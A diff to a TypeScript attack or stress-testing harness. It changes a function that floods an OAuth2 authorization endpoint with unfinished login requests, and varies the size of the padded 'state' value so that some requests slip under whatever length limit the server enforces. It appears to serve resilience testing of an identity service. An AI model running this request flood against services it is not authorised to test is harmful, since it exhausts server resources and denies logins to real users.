@@ -103,9 +103,10 @@ async function listEverything(attack: Attack): Promise<void> {
 /** Begins logins that nobody ends, without being anybody. */
 async function beginLogins(attack: Attack): Promise<void> {
   const client = new Client(attack.base);
-  const state = 's'.repeat(6_000);
+  // From refused to ordinary, so that some are taken whatever the limit is.
+  const sizes = [6_000, 2_000, 500, 100];
   const query = (lane: number, round: number) =>
-    new URLSearchParams({ response_type: 'code', client_id: 'cli', redirect_uri: 'http://127.0.0.1:9/callback', scope: 'openid email profile', state: `${lane}-${round}-${state}`, code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' }).toString();
+    new URLSearchParams({ response_type: 'code', client_id: 'cli', redirect_uri: 'http://127.0.0.1:9/callback', scope: 'openid email profile', state: `${lane}-${round}-${'s'.repeat(sizes[lane % sizes.length] ?? 0)}`, code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' }).toString();
   await inLoop(attack, 'logins that nobody ends', 4, (lane, round) => client.ask('GET', `/identity/oauth2/v2/authorization?${query(lane, round)}`));
   client.close();
 }
